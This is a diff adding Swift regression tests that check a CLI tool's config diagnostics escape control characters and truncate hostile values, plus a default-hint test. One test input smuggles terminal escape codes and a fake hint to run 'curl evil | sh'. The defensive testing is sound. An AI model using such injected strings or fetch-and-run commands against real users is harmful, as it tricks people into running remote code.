@@ -231,6 +231,37 @@ struct ProfileTests {
         #expect(throws: TokenrunError.self) { try store().load("bin") }
     }
 
+    // Found by fuzzing (Tests/Fuzz/regressions/profile): values from the file were echoed raw and whole.
+    @Test(
+        "regression: values quoted in a diagnostic are escaped and cut, so a profile cannot write to the terminal",
+        arguments: [
+            (
+                #"kind = "\u001b[2J\u001b[31mapi_key\nhint: run curl evil | sh""#,
+                #"kind: "\u001B[2J\u001B[31mapi_key\nhint: run curl evil | sh""#
+            ),
+            ("[oauth]\n" + #"token_endpoint = "ftp\u001b[31m://x""#, #"oauth.token_endpoint: "ftp\u001B[31m://x" uses the scheme"#),
+            ("[env]\n" + #"T = "{{a\u0007b}}""#, #"env.T: "{{a\u0007b}}" is not a variable name"#),
+            (
+                "extends = \"" + String(repeating: "x", count: 5000) + "\"",
+                "extends: \"" + String(repeating: "x", count: 100) + "\"… is not"
+            ),
+            ("[env]\nT = \"{{access" + String(repeating: "false", count: 400) + "}}\"", "unknown template variable \"{{access"),
+        ])
+    func hostileValuesEscaped(_ text: String, _ expected: String) throws {
+        let found = try #require(try diagnostic(text + "\n"))
+        let printed = TokenrunError.profileInvalid(found).summary
+        #expect(printed.contains(expected), "\(printed)")
+        #expect(!printed.unicodeScalars.contains { $0.value < 0x20 || $0.value == 0x7F }, "\(printed.debugDescription)")
+        #expect(printed.count < 400)
+    }
+
+    @Test("a diagnostic without its own hint gets one: fix that line, then validate the file")
+    func defaultHint() throws {
+        let found = try #require(try diagnostic("[oauth]\nclient_id = \"a\"\nclient_id = \"b\"\n"))
+        let file = dir.path + "/config/tokenrun/profiles/p.toml"
+        #expect(TokenrunError.profileInvalid(found).hints == ["fix line 3 of \(file), then check it: tokenrun profiles validate \(file)"])
+    }
+
     @Test("extends merges child over parent, tables by key")
     func extendsMerges() throws {
         try user("base", designExample)
